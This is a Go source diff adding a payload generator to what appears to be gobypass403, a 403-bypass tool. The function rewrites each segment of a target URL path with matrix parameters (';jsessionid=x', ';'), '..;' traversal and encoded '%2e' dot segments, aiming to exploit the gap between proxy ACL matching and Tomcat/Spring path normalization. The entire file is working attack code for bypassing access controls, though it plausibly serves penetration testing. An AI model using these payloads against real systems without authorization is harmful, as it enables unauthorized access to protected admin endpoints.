@@ -0,0 +1,100 @@
+package payload
+
+import (
+	"strings"
+
+	"github.com/slicingmelon/go-rawurlparser"
+	GB403Logger "github.com/slicingmelon/gobypass403/core/utils/logger"
+)
+
+/*
+GeneratePathParamsPayloads generates payloads by injecting matrix/path parameters
+(";") and dot segments around each segment of the path.
+
+Tomcat and Spring strip path parameters (";...") and normalize "..;" and "%2e"
+segments, while most proxies match their ACLs on the raw path.
+
+For a URL like /admin/users, it creates these variants for every segment
+(shown for "admin"):
+ 1. Path parameter:       /admin;jsessionid=x/users
+ 2. Empty path parameter: /admin;/users
+ 3. Dot-dot-semicolon:    /admin/..;/admin/users
+ 4. Encoded dot segment:  /admin/%2e/users
+ 5. Empty leading param:  /;/admin/users
+
+Variants of the last segment are also generated with a trailing slash (e.g. /users;/).
+The original query string is appended to all payloads, duplicates are removed.
+*/
+func (pg *PayloadGenerator) GeneratePathParamsPayloads(targetURL string, bypassModule string) []BypassPayload {
+	var jobs []BypassPayload
+
+	parsedURL, err := rawurlparser.RawURLParse(targetURL)
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to parse URL: %s", targetURL)
+		return jobs
+	}
+
+	query := ""
+	if parsedURL.Query != "" {
+		query = "?" + parsedURL.Query
+	}
+
+	// Using map to automatically handle deduplication of final RawURIs
+	uniquePaths := make(map[string]struct{})
+
+	trimmedPath := strings.Trim(parsedURL.Path, "/")
+	if trimmedPath == "" {
+		// Root path, nothing to wrap
+		for _, rootPath := range []string{"/;/", "/;jsessionid=x", "/..;/", "/%2e/"} {
+			uniquePaths[rootPath+query] = struct{}{}
+		}
+	} else {
+		segments := strings.Split(trimmedPath, "/")
+		trailingSlash := ""
+		if strings.HasSuffix(parsedURL.Path, "/") {
+			trailingSlash = "/"
+		}
+
+		for i, segment := range segments {
+			variants := []string{
+				segment + ";jsessionid=x",
+				segment + ";",
+				segment + "/..;/" + segment,
+				segment + "/%2e",
+				";/" + segment,
+			}
+
+			for _, variant := range variants {
+				mutated := make([]string, 0, len(segments))
+				mutated = append(mutated, segments[:i]...)
+				mutated = append(mutated, variant)
+				mutated = append(mutated, segments[i+1:]...)
+
+				path := "/" + strings.Join(mutated, "/") + trailingSlash
+				uniquePaths[path+query] = struct{}{}
+
+				// Last segment, also try with a trailing slash (e.g. /admin;/)
+				if i == len(segments)-1 && trailingSlash == "" {
+					uniquePaths[path+"/"+query] = struct{}{}
+				}
+			}
+		}
+	}
+
+	// Create final jobs from the deduplicated map
+	for rawURI := range uniquePaths {
+		job := BypassPayload{
+			OriginalURL:  targetURL,
+			Method:       "GET",
+			Scheme:       parsedURL.Scheme,
+			Host:         parsedURL.Host,
+			RawURI:       rawURI,
+			BypassModule: bypassModule,
+		}
+		job.PayloadToken = GeneratePayloadToken(job)
+		jobs = append(jobs, job)
+	}
+
+	GB403Logger.Debug().BypassModule(bypassModule).Msgf("Generated %d payloads for %s", len(jobs), targetURL)
+	return jobs
+}